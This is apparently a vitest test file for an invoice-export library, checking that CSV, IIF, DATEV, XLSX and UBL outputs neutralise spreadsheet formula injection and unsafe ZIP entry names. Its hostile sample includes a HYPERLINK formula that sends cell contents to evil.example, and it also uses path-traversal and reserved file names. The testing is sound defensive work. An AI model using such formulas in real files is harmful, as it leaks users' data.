import { unzipSync } from 'fflate'
import { describe, expect, it } from 'vitest'
import { documentSaying } from '../../../../tests/support/attacks/said-everywhere.ts'
import { tricks } from '../../../../tests/support/attacks/tricks.ts'
import { allHard, hard } from '../../test/hard-documents.ts'
import { readCsv, readExtf, readIif, readWorkbook } from '../../test/readers.ts'
import { exported } from '../../test/ready.ts'
import { formatIds } from '../formats.ts'
import { inWindows1252, windows1252Bytes } from './windows-1252.ts'

const csvFormats = formatIds.filter(
  (format) => !['ubl', 'xlsx', 'datev', 'quickbooks-desktop'].includes(format),
)
const isNumber = /^-?\d+([.,]\d+)?$/

describe('hostile cells', () => {
  it.each(csvFormats)('of %s begin no formula, and amounts stay numbers', (format) => {
    const cells = exported(format, allHard, { currency: 'EUR' }).files.flatMap((file) =>
      readCsv(file).flatMap((row) => Object.values(row)),
    )
    expect(cells.length).toBeGreaterThan(20)
    const risky = cells.filter((cell) => /^\s*[=+\-@]/.test(cell) && !isNumber.test(cell))
    expect(risky).toEqual([])
    expect(cells.some((cell) => /^'-\d/.test(cell) && isNumber.test(cell.slice(1)))).toBe(false)
  })

  it('of an IIF file break out of no cell and no line', () => {
    const [file] = exported('quickbooks-desktop', [hard.hostile, hard.threeRates], {
      currency: 'EUR',
    }).files
    const transactions = file ? readIif(file) : []
    expect(transactions.map(({ head }) => head.DOCNUM)).toEqual(['INV-104', 'INV-101'])
    const cells = transactions.flatMap(({ head, splits }) =>
      [head, ...splits].flatMap((row) => Object.values(row)),
    )
    expect(cells.filter((cell) => cell.includes('"') || /^[=+@]/.test(cell))).toEqual([])
  })

  it.each(['⁼', '﹢', '﹣', '﹫'])(
    'that begin with %s begin no formula in Windows-1252',
    (sign) => {
      const document = {
        ...hard.hostile,
        receiver: { ...hard.hostile.receiver, company: `${sign}9` },
      }
      const files = (['quickbooks-desktop', 'datev'] as const).flatMap(
        (format) => exported(format, [document], { currency: 'EUR' }).files,
      )
      const texts = files.map(({ bytes }) => new TextDecoder('windows-1252').decode(bytes))
      expect(texts.map((text) => /[\t"]'[=+\-@]9/.test(text))).toEqual([true, true])
      expect(texts.filter((text) => /[\t"][=+\-@]9[ \t"]/.test(text))).toEqual([])
    },
  )

  it('of a workbook are texts as they were written, and no cell is a formula', () => {
    const [file] = exported('xlsx', [hard.hostile]).files
    const [documents = []] = file ? readWorkbook(file) : []
    const names = documents[1]?.map(({ value }) => value)
    expect(names).toContain('=HYPERLINK("http://evil.example?"&A1,"Acme")')
    const cells = file ? readWorkbook(file).flat(2) : []
    expect(cells.filter(({ isFormula }) => isFormula)).toEqual([])
    expect(cells.filter(({ type, value }) => type === 'n' && !/^-?[\d.]*$/.test(value))).toEqual([])
  })
})

describe('tricks in every field', () => {
  const said = (texts: readonly string[]) => documentSaying(hard.threeRates, texts)
  const hostile = said(tricks.cells)
  const calm = said(['word', 'another'])

  it.each(csvFormats)('of %s open no cell, no row and no formula', (format) => {
    const [rows, calmRows] = [hostile, calm].map((document) =>
      exported(format, [document], { currency: 'EUR' }).files.flatMap((file) => readCsv(file)),
    )
    expect(rows?.map((row) => Object.keys(row))).toEqual(calmRows?.map((row) => Object.keys(row)))
    const cells = rows?.flatMap((row) => Object.values(row)) ?? []
    expect(cells.filter((cell) => /^\s*[=+\-@＝]/.test(cell) && !isNumber.test(cell))).toEqual([])
  })

  it('of DATEV and QuickBooks Desktop open none either', () => {
    const [datev] = exported('datev', [hostile], { currency: 'EUR' }).files
    const [desktop] = exported('quickbooks-desktop', [hostile], { currency: 'EUR' }).files
    if (datev === undefined || desktop === undefined) throw new Error('Nothing was written')
    const cells = [
      ...readExtf(datev).bookings.flatMap((row) => Object.values(row)),
      ...readIif(desktop).flatMap(({ head, splits }) => [head, ...splits].flatMap(Object.values)),
    ]
    expect(cells.length).toBeGreaterThan(20)
    expect(cells.filter((cell) => /^\s*[=+\-@]/.test(cell) && !isNumber.test(cell))).toEqual([])
  })

  it('of a workbook are texts', () => {
    const [file] = exported('xlsx', [hostile]).files
    const cells = file ? readWorkbook(file).flat(2) : []
    expect(cells.filter(({ isFormula }) => isFormula)).toEqual([])
    expect(cells.map(({ value }) => value)).toContain('=1+1')
  })
})

it('every invoice of a ZIP has a name of its own, also beside one that is named like a second', () => {
  const numbered = ['A/1', 'A-1', 'a-1_2', 'A-1', '..', 'CON', '\u202efdp'].map((number) => ({
    ...hard.threeRates,
    number,
  }))
  const [file] = exported('ubl', numbered).files
  const names = Object.keys(unzipSync(file?.bytes ?? new Uint8Array()))
  expect(names.toSorted()).toEqual([
    'A-1.xml',
    'A-1_2.xml',
    'A-1_3.xml',
    'CON-.xml',
    'a-1_2_2.xml',
    'document.xml',
    'fdp.xml',
  ])
})

it('what stands in the head of a DATEV file without quotation marks is a number', () => {
  const answer = exported('datev', [hard.threeRates], { accountLength: '4;"x"' })
  expect(answer).toEqual({ files: [], leftOut: [0] })
})

describe('Windows-1252', () => {
  it('is what every decoder reads, for each character that it has', () => {
    const all = new TextDecoder('windows-1252').decode(
      Uint8Array.from({ length: 256 }, (_, code) => code),
    )
    const printable = [...all].filter((character) => !/\p{Cc}/u.test(character)).join('')
    const read = new TextDecoder('windows-1252').decode(windows1252Bytes(printable))
    expect(read).toBe(printable)
    expect(inWindows1252(printable)).toBe(printable)
  })

  it('has no other letters: accents go, the rest becomes a question mark', () => {
    expect(inWindows1252('Łódź Őrség 日本 Ž €')).toBe('?ódz Orség ?? Ž €')
  })
})
